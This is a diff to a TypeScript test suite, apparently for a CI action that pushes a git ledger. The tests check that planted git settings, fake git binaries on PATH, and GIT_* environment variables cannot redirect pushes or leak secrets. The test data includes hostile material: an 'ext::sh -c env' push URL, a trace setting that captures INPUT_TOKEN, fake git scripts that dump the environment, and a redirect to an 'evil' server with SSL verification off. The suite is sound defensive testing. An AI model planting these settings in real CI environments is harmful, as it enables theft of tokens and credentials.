@@ -1,5 +1,5 @@
-import { appendFile, mkdir, readdir, writeFile } from 'node:fs/promises';
-import { join } from 'node:path';
+import { appendFile, chmod, mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
+import { delimiter, join } from 'node:path';
 import { type Host, openHost } from '../../src/actions/host.js';
 import { DAY, idAt, runFile } from '../ledger/fixtures.js';
 import { bareEnvironment } from '../support/exec.js';
@@ -44,8 +44,11 @@ interface Place {
   loot: string;
 }
 
-async function place(env: Record<string, string> = {}): Promise<Place> {
-  const job: Job = await world.job(await world.push(), { checkout: 'none', artifacts: false });
+/** A step of a job. @param before what an earlier step has done @returns what it has added to the environment */
+async function place(
+  before: (job: Job, loot: string) => Promise<Record<string, string>> = async () => ({}),
+): Promise<Place> {
+  const job = await world.job(await world.push(), { checkout: 'none', artifacts: false });
   const home = join(job.options.root, 'home');
   const loot = join(job.options.root, 'loot');
   await mkdir(loot);
@@ -53,7 +56,7 @@ async function place(env: Record<string, string> = {}): Promise<Place> {
   const all = {
     ...bareEnvironment(home),
     ...runnerVariables(job.options, { temp: job.temp, home, eventPath }),
-    ...env,
+    ...(await before(job, loot)),
   };
   const host = await openHost(all, { ...INPUTS, token: job.options.token });
   return { host, env: all, home, loot };
@@ -78,7 +81,10 @@ const SETTINGS: readonly (readonly [name: string, text: (attack: Attack) => stri
     ({ loot }) =>
       `[protocol "ext"]\n\tallow = always\n[remote "lineage-ledger"]\n\tpushurl = "ext::sh -c env%>${loot}/x"\n`,
   ],
-  ['trace2', ({ loot }) => `[trace2]\n\teventTarget = ${loot}/trace\n\tenvVars = GIT_CONFIG_PARAMETERS\n`],
+  [
+    'trace2',
+    ({ loot }) => `[trace2]\n\teventTarget = ${loot}/trace\n\tenvVars = GIT_CONFIG_PARAMETERS,INPUT_TOKEN\n`,
+  ],
   [
     'ssh and helpers',
     ({ loot }) =>
@@ -127,6 +133,87 @@ describe('what is planted after the begin leads no push elsewhere', () => {
     await writeFile(join(at.home, '.config', 'git', 'config'), planted);
     const run = await runOfNow();
     await at.host.openLedger().append([run]);
+    await expectPushed(at, run.files[0]?.path ?? '');
+  });
+});
+
+/** A program that looks like git and tells all that it knows. */
+async function plantGit(folder: string, loot: string): Promise<void> {
+  await mkdir(folder, { recursive: true });
+  for (const name of ['git', 'git-remote-http', 'git-push', 'git-send-pack']) {
+    await writeFile(join(folder, name), `#!/bin/sh\nenv > '${loot}/${name}'\nexit 1\n`);
+    await chmod(join(folder, name), 0o755);
+  }
+}
+
+const posix = process.platform === 'win32' ? describe.skip : describe;
+
+posix('git is the program that was there at the begin', () => {
+  test('a folder of PATH that got one later changes nothing', async () => {
+    let folder = '';
+    const at = await place(async (job) => {
+      folder = join(job.options.root, 'bin');
+      return { PATH: [folder, process.env.PATH].join(delimiter) };
+    });
+    await plantGit(folder, at.loot);
+    const run = await runOfNow();
+    await at.host.openLedger().append([run]);
+    await expectPushed(at, run.files[0]?.path ?? '');
+  });
+
+  test.each(['workspace', 'temp', 'a link into the workspace'])('and never one in the %s', async (where) => {
+    const at = await place(async (job, loot) => {
+      const inside = join(where === 'temp' ? job.temp : job.workspace, 'bin');
+      await plantGit(inside, loot);
+      const link = join(job.options.root, 'link');
+      await mkdir(link);
+      for (const name of await readdir(inside)) await symlink(join(inside, name), join(link, name));
+      return { PATH: [where.startsWith('a') ? link : inside, process.env.PATH].join(delimiter) };
+    });
+    const run = await runOfNow();
+    await at.host.ledger.append([run]);
+    await expectPushed(at, run.files[0]?.path ?? '');
+  });
+});
+
+describe('a step after the training takes the way to the server from its surroundings, and no other', () => {
+  const OTHERS = SETTINGS.filter(([name]) => !/^http\..*proxy$/.test(name));
+
+  test.each(OTHERS)('%s', async (_, text) => {
+    const at = await place(async (job, loot) => {
+      const [evilUrl, url] = [evil, world.git].map((server) => server.url(world.repository));
+      const planted = text({ evil: evilUrl ?? '', url: url ?? '', loot });
+      await writeFile(join(job.options.root, 'home', '.gitconfig'), planted);
+      return {};
+    });
+    const run = await runOfNow();
+    await at.host.ledger.append([run]);
+    await expectPushed(at, run.files[0]?.path ?? '');
+  });
+
+  test('variables', async () => {
+    const at = await place(async (job, loot) => {
+      const programs = join(job.options.root, 'programs');
+      await plantGit(programs, loot);
+      const setting = { key: `url.${evil.url(world.repository)}.pushInsteadOf`, value: 'lineage-ledger:' };
+      return {
+        GIT_EXEC_PATH: programs,
+        GIT_TRACE: `${loot}/trace`,
+        GIT_TRACE2_EVENT: `${loot}/trace2`,
+        GIT_TRACE2_ENV_VARS: 'GIT_CONFIG_PARAMETERS',
+        GIT_TRACE_CURL: `${loot}/curl`,
+        GIT_TRACE_REDACT: '0',
+        GIT_SSL_NO_VERIFY: '1',
+        GIT_SSH_COMMAND: `touch ${loot}/ssh`,
+        GIT_ASKPASS: join(programs, 'git'),
+        GIT_CONFIG_COUNT: '1',
+        GIT_CONFIG_KEY_0: setting.key,
+        GIT_CONFIG_VALUE_0: setting.value,
+        GIT_CONFIG_PARAMETERS: `'${setting.key}'='${setting.value}'`,
+      };
+    });
+    const run = await runOfNow();
+    await at.host.ledger.append([run]);
     await expectPushed(at, run.files[0]?.path ?? '');
   });
 });
